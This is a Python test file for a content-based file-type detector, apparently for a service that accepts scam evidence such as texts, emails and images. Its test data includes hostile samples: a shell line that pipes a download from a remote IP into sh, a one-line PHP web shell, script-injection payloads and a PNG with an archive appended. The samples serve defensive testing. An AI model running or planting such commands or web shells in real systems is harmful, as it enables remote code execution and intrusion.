"""File types are read from the content: active text and programs are refused whatever their name."""

import io
import zipfile

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vigilance.evidence.filetypes import detect

PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15"
    b"\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82"
)
WINDOWS_EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(200)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://198.51.100.7/x | sh\n"


def png_with_a_zip_behind() -> bytes:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zipped:
        zipped.writestr("payload.js", "alert(1)")
    return PNG + archive.getvalue()


@pytest.mark.parametrize(
    "content",
    [
        WINDOWS_EXECUTABLE,
        SHELL_SCRIPT,
        b"<!DOCTYPE html><html><body>Votre compte</body></html>",
        b"  \n<HTML><script>alert(1)</script>",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        b"\xef\xbb\xbf\r\n\t<Script>fetch('/api')</Script>",
        b"<?php system($_GET['c']); ?>",
    ],
    ids=["exe", "shell", "html", "html-upper", "svg", "xml", "script-bom", "php"],
)
def test_programs_and_active_text_are_refused(content: bytes) -> None:
    assert detect(content) is None


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"Il m'a dit: envoie 50 000 F au 650 11 22 33 <vite>.", "text/plain"),
        ("Numéro suspect : 6 99 88 77 66".encode(), "text/plain"),
        (b"From: faux@example.com\nTo: moi@example.cm\nSubject: Gain\n\n<html>", "message/rfc822"),
        (PNG, "image/png"),
    ],
)
def test_evidence_people_send_is_recognised(content: bytes, expected: str) -> None:
    assert detect(content) == expected


def test_a_png_with_an_archive_behind_it_is_a_png() -> None:
    assert detect(png_with_a_zip_behind()) == "image/png"


@given(
    padding=st.text(alphabet=" \t\r\n", max_size=5),
    bom=st.booleans(),
    tag=st.sampled_from(["<html", "<svg", "<script", "<?xml"]),
    rest=st.text(max_size=50),
)
def test_markup_is_never_taken_for_text_whatever_its_case_or_padding(
    padding: str, bom: bool, tag: str, rest: str
) -> None:
    cased = "".join(c.upper() if i % 2 else c for i, c in enumerate(tag))
    content = (b"\xef\xbb\xbf" if bom else b"") + (padding + cased + rest).encode()

    assert detect(content) not in {"text/plain", "message/rfc822"}
